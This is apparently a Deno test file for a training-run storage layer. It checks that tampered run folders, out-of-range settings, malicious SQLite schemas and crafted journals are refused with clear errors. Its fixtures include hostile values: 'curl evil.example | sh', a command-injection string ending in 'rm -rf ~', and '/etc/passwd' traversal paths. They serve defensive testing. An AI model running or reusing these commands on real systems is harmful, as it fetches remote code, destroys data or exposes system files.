/** Run folders that a stranger has made: each is refused in one line that says what and why. */
import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { DatabaseSync } from "node:sqlite";
import { join } from "node:path";
import {
  createRun,
  deleteRun,
  listRuns,
  openRunReader,
  openRunToContinue,
  renameRun,
  sendCommand,
  sweepRuns,
} from "../../../pipeline/store/mod.ts";
import { createReplay } from "../../../pipeline/store/replay_folders.ts";
import { started, step } from "../../scripts/cli/progress/_events.ts";
import { runConfig } from "../store/_run_config.ts";
import { inTemporaryFolder } from "../store/_temporary_folder.ts";
import {
  absurdNumbers,
  addRow,
  hostileTexts,
  hotJournal,
  inDatabase,
  replaceBy,
  setSetting,
  strangeFiles,
  strangeFolders,
} from "./_crafted.ts";

interface Places {
  runsDir: string;
  /** Of the run "first", which nobody trains. */
  folder: string;
  /** A folder that no run may touch. */
  outside: string;
}

/** A test on a run of its own; what lies outside of it must be as it was. */
function onRun(test: (places: Places) => void | Promise<void>): Promise<void> {
  return inTemporaryFolder(async (dir) => {
    const [runsDir, outside] = [join(dir, "runs"), join(dir, "outside")];
    Deno.mkdirSync(outside);
    const run = await createRun(runConfig({ runsDir, name: "first" }));
    [started, step(1), step(2)].forEach(run.append);
    run.close();
    await test({ runsDir, folder: run.folder, outside });
    const left = [...Deno.readDirSync(outside)].map(({ name }) => name);
    assert.ok(left.every((name) => name === "victim"), `${left} outside of the run`);
    if (existsSync(join(outside, "victim"))) {
      assert.equal(Deno.readTextFileSync(join(outside, "victim")), "not yours");
    }
  });
}

/** What a reader or a command says of a run; undefined where it finds nothing wrong. */
async function complaint(action: () => unknown): Promise<string | undefined> {
  try {
    await action();
  } catch (error) {
    const { name, message } = error as Error;
    assert.match(name, /^(Error|RangeError)$/, message);
    assert.doesNotMatch(message, /\p{Cc}/u);
    return message;
  }
}

const readAll = (runsDir: string) => {
  const reader = openRunReader(runsDir, "first");
  try {
    reader.events({ after: 0, limit: 100 });
    return reader.steps({ points: 100 });
  } finally {
    reader.close();
  }
};

for (const [what, put] of Object.entries(strangeFiles)) {
  for (const file of ["run.json", "events.sqlite", "owner.lock"]) {
    Deno.test(`${what} as ${file} is named by every command, and hangs none`, () =>
      onRun(async ({ runsDir, folder, outside }) => {
        replaceBy(put, join(folder, file), outside);
        const [summary] = listRuns(runsDir);
        assert.equal(summary.state, "unreadable");
        assert.match(summary.problem!, new RegExp(`${file} (is|has) .*(: |be there)`));
        const command = () => sendCommand(runsDir, "first", { name: "pause" });
        const commands = {
          events: () => openRunReader(runsDir, "first").summary(),
          resume: () => openRunToContinue(folder, { step: 1 }),
          replays: () => createReplay(folder),
          ...file === "owner.lock" ? { command } : {},
        };
        for (const [name, command] of Object.entries(commands)) {
          assert.match(
            await complaint(command) ?? "nothing",
            new RegExp(`${file} (is|has) `),
            name,
          );
        }
        if (file === "events.sqlite") return; // neither renaming nor deleting reads it
        for (const command of [renameRun, deleteRun]) {
          const said = await complaint(() => command(runsDir, "first", "second"));
          assert.match(said ?? "nothing", new RegExp(`${file} (is|has) `));
        }
      }));
  }

  for (const file of ["events.sqlite-wal", "events.sqlite-shm", "events.sqlite-journal"]) {
    Deno.test(`${what} as ${file} is not followed by SQLite`, () =>
      onRun(async ({ runsDir, folder, outside }) => {
        replaceBy(put, join(folder, file), outside);
        for (
          const command of [() => readAll(runsDir), () => openRunToContinue(folder, { step: 1 })]
        ) {
          assert.match(await complaint(command) ?? "nothing", new RegExp(`${file} (is|has) `));
        }
      }));
  }
}

for (const [what, put] of Object.entries(strangeFolders)) {
  for (const name of ["samples", "batches", "checkpoints", "incidents", "record", "replays"]) {
    Deno.test(`${what} as ${name} is refused by whoever would write there`, () =>
      onRun(async ({ folder, outside }) => {
        replaceBy(put, join(folder, name), outside);
        for (
          const command of [
            () => openRunToContinue(folder, { step: 1 }),
            () => createReplay(folder),
          ]
        ) {
          assert.match(
            await complaint(command) ?? "nothing",
            new RegExp(`${name} is a.*a folder has`),
          );
        }
      }));
  }
}

Deno.test("every setting is held to its flag's rule, and told of with its file, value and bounds", () =>
  onRun(async ({ runsDir, folder }) => {
    const text = Deno.readTextFileSync(join(folder, "run.json"));
    const { config } = JSON.parse(text);
    const bad: [path: string, value: unknown][] = [
      ["config.checkpointEvery", 0],
      ["config.keepLast", -5],
      ["config.threads", 0],
      ["config.pattern", "../../**"],
      ["config.pattern", "/etc/**"],
      ["config.pattern", "{..,x}/**"],
      ["config.pattern", "+(a*)+(a*)+(a*)b"],
      ["config.pattern", "*a*a*a*a*a*a*a*a*b"],
      ["config.model.seed", 2 ** 60],
      ["config.model.learningRate", "1"],
      ["config.backend", "__proto__"],
      ["createdAt", 1e308],
      ["parent", { run: "x", step: -1, changes: {} }],
      ...Object.entries(config).filter(([, value]) => typeof value === "number").flatMap(([name]) =>
        absurdNumbers.filter((value) => value !== Number.MAX_SAFE_INTEGER || name !== "seed")
          .filter((value) => name !== "cacheLimit" || value !== 0.5) // half a gigabyte
          .map((value): [string, unknown] => [`config.${name}`, value])
      ),
      ...Object.keys(config.model).filter((name) => !["seed", "zDist"].includes(name)).flatMap((
        name,
      ) =>
        [-1, 1e308 * 10, null, "7", {}, []].map((value): [string, unknown] => [
          `config.model.${name}`,
          value,
        ])
      ),
    ];
    for (const [path, value] of bad) {
      Deno.writeTextFileSync(join(folder, "run.json"), text);
      setSetting(folder, path, value);
      const said = await complaint(() => readAll(runsDir)) ?? "nothing";
      const place = path.replaceAll(".", "\\.");
      assert.match(
        said,
        new RegExp(`first/run\\.json is damaged: ${place}\\S* is .*: it must be `),
        path,
      );
      assert.equal(listRuns(runsDir)[0].problem, said);
    }
  }));

const hostileEvents: [type: string, field: string, value: unknown][] = [
  ["sample", "images", 1e9],
  ["sample", "images", Number.MAX_SAFE_INTEGER],
  ["sample", "file", "../../secret.png"],
  ["sample", "file", "/etc/passwd"],
  ["sample", "step", 1e308],
  ["sample", "at", 1e308],
  ["sample", "sampleMillis", -1],
  ["incident", "replay", "curl evil.example | sh"],
  ["incident", "replay", "deno task replay 'x'; rm -rf ~"],
  ["incident", "folder", "../.."],
];

const whole: Record<string, object> = {
  sample: {
    ...{
      type: "sample",
      at: 0,
      step: 1,
      epoch: 0,
      stepInEpoch: 1,
      file: "samples/a.png",
      images: 4,
    },
    ...{ dLoss: 1, gLoss: 1 },
  },
  incident: {
    ...{ type: "incident", at: 0, step: 1, kind: "error", message: "m", folder: "incidents/x" },
    replay: "deno task replay 'runs/a b/incidents/x'",
  },
};

Deno.test("an event with what no run tells is passed by and counted, and all others are there", () =>
  onRun(({ runsDir, folder }) => {
    for (const [type, field, value] of hostileEvents) {
      addRow(folder, type, { ...whole[type], [field]: value });
    }
    for (const [type, event] of Object.entries(whole)) addRow(folder, type, event);
    addRow(folder, "warning", whole.sample); // of another type than it says
    addRow(folder, "warning", { type: "warning", at: 0, message: "x".repeat(1e6) });
    const reader = openRunReader(runsDir, "first");
    const types = reader.events({ after: 0, limit: 100 }).map(({ event }) => event.type);
    assert.deepEqual(types, ["run-started", "step", "step", "sample", "incident"]);
    assert.equal(reader.unreadable(), hostileEvents.length + 2);
    assert.match(reader.problem()!, /^row 4: .*images is 1000000000: it must be .* 0 to 16384/);
    assert.equal(reader.all("warning").length, 0);
    assert.equal(reader.summary().step, 2);
    reader.close();
  }));

Deno.test("rows with numbers beyond JavaScript's are none of a run's", () =>
  onRun(({ runsDir, folder }) => {
    inDatabase(folder, (database) => {
      database.exec(`
        INSERT INTO events VALUES (9223372036854775807, 'warning', NULL, '{}');
        INSERT INTO events VALUES (-5, 'warning', NULL, '{}');
        INSERT INTO steps (step, at) VALUES (9223372036854775807, 1e308), (-9, 0), (3, 1e308);
        INSERT INTO step_ranges (range, first_step, last_step)
          VALUES (7, -9223372036854775808, 9223372036854775807);
      `);
    });
    const reader = openRunReader(runsDir, "first");
    assert.equal(reader.lastSeq(), 3);
    for (const points of [2, 1000]) {
      const { step, at } = reader.steps({ points });
      assert.ok(step.length <= Math.max(3, points) && step.every((one) => one >= 1 && one <= 3));
      assert.ok(at.every((millis) => !Number.isNaN(new Date(millis).getTime())));
    }
    assert.equal(reader.summary().state, "gone");
    reader.close();
  }));

Deno.test("a million rows that are no events are read once, not at each look", () =>
  onRun(({ runsDir, folder }) => {
    inDatabase(folder, (database) => {
      database.exec(`
        WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 100000)
        INSERT INTO events (type, body) SELECT 'warning', '{}' FROM n
      `);
    });
    const reader = openRunReader(runsDir, "first");
    const millis = () => {
      const begun = performance.now();
      assert.equal(reader.events({ after: 3, limit: 5000 }).length, 0);
      return performance.now() - begun;
    };
    const first = millis();
    assert.ok(millis() < first / 10);
    reader.close();
  }));

const strangeDatabases: Record<string, string> = {
  "a view that never ends": `ALTER TABLE events RENAME TO old; CREATE VIEW events AS
    WITH RECURSIVE n(seq) AS (SELECT 1 UNION ALL SELECT seq FROM n)
    SELECT seq, 'warning' AS type, 1 AS step, '{}' AS body FROM n`,
  "a trigger": "CREATE TRIGGER t AFTER INSERT ON events BEGIN DELETE FROM steps; END",
  "a column that computes": `DROP TABLE commands; CREATE TABLE commands (
    id INTEGER PRIMARY KEY AUTOINCREMENT, body TEXT AS (hex(zeroblob(1000000000))))`,
  "an index that computes": "CREATE INDEX i ON events (upper(body))",
  "a table of its own": "CREATE TABLE mine (x)",
};

for (const [what, sql] of Object.entries(strangeDatabases)) {
  Deno.test(`a database with ${what} is named, and neither read nor written`, () =>
    onRun(async ({ runsDir, folder }) => {
      inDatabase(folder, (database) => database.exec(sql));
      const expected = /events\.sqlite holds a (view|trigger|table|index) "\w+" that no run makes/;
      assert.match(await complaint(() => readAll(runsDir)) ?? "nothing", expected);
      assert.match(
        await complaint(() => openRunToContinue(folder, { step: 1 })) ?? "nothing",
        expected,
      );
      assert.match(listRuns(runsDir)[0].problem ?? "nothing", expected);
    }));
}

Deno.test("a journal that would have SQLite remove a file elsewhere is refused", () =>
  onRun(async ({ folder, outside }) => {
    const decoy = join(folder, "decoy");
    Deno.writeTextFileSync(decoy, "a decoy");
    Deno.copyFileSync(join(folder, "events.sqlite"), join(folder, "copy.sqlite"));
    Deno.writeFileSync(join(folder, "copy.sqlite-journal"), hotJournal(decoy));
    const unguarded = new DatabaseSync(join(folder, "copy.sqlite"));
    unguarded.prepare("SELECT count(*) FROM sqlite_schema").get();
    unguarded.close();
    assert.ok(!existsSync(decoy), "SQLite does what such a journal says");

    const victim = join(outside, "victim");
    Deno.writeTextFileSync(victim, "not yours");
    Deno.writeFileSync(join(folder, "events.sqlite-journal"), hotJournal(victim));
    const said = await complaint(() => openRunToContinue(folder, { step: 1 }));
    assert.match(said ?? "nothing", /-journal names another file/);
  }));

Deno.test("renaming and deleting a link to a run act on the link alone", () =>
  onRun(async ({ runsDir, folder, outside }) => {
    const other = await createRun(runConfig({ runsDir: `${outside}-runs`, name: "other" }));
    other.close();
    const before = Deno.readTextFileSync(join(other.folder, "run.json"));
    Deno.symlinkSync(other.folder, join(runsDir, "linked"));
    await renameRun(runsDir, "linked", "renamed");
    assert.equal(Deno.readTextFileSync(join(other.folder, "run.json")), before);
    await assert.rejects(renameRun(runsDir, "renamed", "first"), /"first" exists already/);
    await deleteRun(runsDir, "renamed");
    assert.deepEqual([...Deno.readDirSync(runsDir)].map(({ name }) => name), ["first"]);
    assert.equal(Deno.readTextFileSync(join(other.folder, "run.json")), before);
    assert.ok(existsSync(join(folder, "run.json")));
  }));

const uuid = "01234567-89ab-cdef-0123-456789abcdef";

Deno.test("what a kill left of runs that went or came is swept when the next one begins", () =>
  onRun(async ({ runsDir }) => {
    const old = [`.deleted-${uuid}`, `.making-${uuid}`, "half-made"];
    for (const name of old) {
      for (const part of ["samples", "batches"]) {
        Deno.mkdirSync(join(runsDir, name, part), { recursive: true });
      }
      Deno.writeTextFileSync(join(runsDir, name, "owner.lock"), "");
      Deno.utimeSync(join(runsDir, name), 0, 0);
    }
    const others = [".deleted-notes", "mine", `.making-${uuid.replace("0", "f")}`];
    for (const name of others) Deno.mkdirSync(join(runsDir, name, "samples"), { recursive: true });
    (await createRun(runConfig({ runsDir, name: "second" }))).close();
    const names = [...Deno.readDirSync(runsDir)].map(({ name }) => name).sort();
    assert.deepEqual(names, [...others, "first", "second"].sort());
    assert.deepEqual(await sweepRuns(join(runsDir, "nowhere")), []);
  }));

Deno.test("neither an empty folder nor a half-made run blocks a name", () =>
  onRun(async ({ runsDir }) => {
    Deno.mkdirSync(join(runsDir, "empty"));
    for (const part of ["samples", "batches"]) {
      Deno.mkdirSync(join(runsDir, "half", part), { recursive: true });
    }
    await renameRun(runsDir, "first", "empty");
    (await createRun(runConfig({ runsDir, name: "half" }))).close();
    const names = listRuns(runsDir).map(({ name }) => name).sort();
    assert.deepEqual(names, ["empty", "half"]);
    for (const name of names) {
      await assert.rejects(createRun(runConfig({ runsDir, name })), /exists in .*another --name/);
    }
    Deno.writeTextFileSync(join(runsDir, "file"), "a file");
    await assert.rejects(createRun(runConfig({ runsDir, name: "file" })), /exists in/);
    assert.deepEqual([...Deno.readDirSync(runsDir)].filter(({ name }) => name.startsWith(".")), []);
  }));

Deno.test("of many who begin a run of one name at a time, one gets it whole", () =>
  onRun(async ({ runsDir }) => {
    const tries = await Promise.allSettled(
      Array.from({ length: 8 }, () => createRun(runConfig({ runsDir, name: "one" }))),
    );
    const made = tries.filter((one) => one.status === "fulfilled");
    assert.equal(made.length, 1);
    made[0].value.close();
    assert.deepEqual(listRuns(runsDir).map(({ name, problem }) => [name, problem]).sort(), [
      ["first", undefined],
      ["one", undefined],
    ]);
  }));

Deno.test("text that a run tells is JSON of one line that no terminal obeys", async () => {
  const { eventLine, parseEvent } = await import("../../../pipeline/store/mod.ts");
  for (const message of hostileTexts) {
    const line = eventLine({ type: "warning", at: 0, message });
    assert.doesNotMatch(line, /[\p{Cc}\u202e]/u);
    assert.deepEqual(parseEvent(line), { type: "warning", at: 0, message });
  }
});
